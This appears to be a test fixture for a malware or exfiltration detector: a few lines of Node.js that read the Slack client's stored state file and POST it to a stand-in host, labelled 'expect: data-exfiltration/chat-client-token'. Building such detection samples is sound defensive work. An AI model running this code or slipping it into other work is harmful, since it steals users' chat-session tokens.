const fs = require('fs');
const os = require('os');

const state = fs.readFileSync(`${os.homedir()}/.config/Slack/storage/root-state.json`);
require('https').request('https://collect.example/s', { method: 'POST' }).end(state); // expect: data-exfiltration/chat-client-token
